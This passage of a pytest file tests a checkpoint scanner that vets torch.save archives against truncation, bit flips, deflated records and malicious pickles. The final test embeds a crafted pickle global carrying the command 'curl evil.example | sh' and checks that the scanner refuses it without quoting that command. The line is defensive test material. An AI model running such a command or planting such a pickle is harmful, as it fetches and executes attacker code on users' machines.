    vet_item(embedded(item, after=100), 100, len(item), "w")
    with pytest.raises(CheckpointError, match="does not end with a zip end record"):
        vet_item(embedded(item, after=100), 100, len(item) + 10, "w")


def test_an_item_is_read_once():
    vet_item = torchzip().vet_item
    item = saved_bytes({"w": torch.zeros(2**20)})  # a 4 MiB record
    file = embedded(item, after=4 * MiB)
    vet_item(file, 100, len(item), "w")
    assert len(item) <= file.bytes_read < len(item) + 16 * 1024


@pytest.mark.parametrize(
    ("offset", "length", "expected"),
    [
        (100, 10**6, r"ends at byte 1000100, past the end of its file \(\d+ bytes\)"),
        (0, 200, "not a torch.save archive"),
        (100, 10, "too short to hold a record"),
    ],
)
def test_an_item_that_is_not_a_whole_archive_is_refused(offset, length, expected):
    with pytest.raises(CheckpointError, match=expected):
        torchzip().vet_item(embedded(saved_bytes()), offset, length, "w")


def test_random_flips_of_an_item_never_pass_silently():
    """A seeded sample of flips over a bare tensor's archive, vetted as an item."""
    vet_item = torchzip().vet_item
    item = bytearray(saved_bytes(torch.randn(50)))
    rng = random.Random(0)
    for _ in range(2000):
        at, bit = rng.randrange(len(item)), rng.randrange(8)
        item[at] ^= 1 << bit
        with pytest.raises(CheckpointError):
            vet_item(io.BytesIO(bytes(item)), 0, len(item), "w")
        item[at] ^= 1 << bit


def test_a_deflated_item_is_refused(deflated):
    item = deflated(saved_bytes(), padding=MiB)
    with pytest.raises(
        CheckpointError,
        match=r"the item 'w' was not written by torch\.save: its record "
        r"'archive/data\.pkl' is compressed \(deflate\) and would inflate to \d{7} "
        rf"bytes from \d+ \(it is {len(item)} bytes in all\)",
    ):
        torchzip().vet_item(embedded(item), 100, len(item), "the item 'w'")


def test_a_refused_name_is_quoted_only_if_it_is_a_python_name():
    """A crafted global is not pasted into the advice a reader may copy."""
    from dlcomp._torchzip import scan_pickle

    data = b"\x80\x02c" + b"curl evil.example | sh x\nsystem\n" + b")R."
    with pytest.raises(CheckpointError) as refused:
        scan_pickle(data, "cmd.pt")
    assert "curl" not in str(refused.value)
    assert "not a Python name" in str(refused.value)
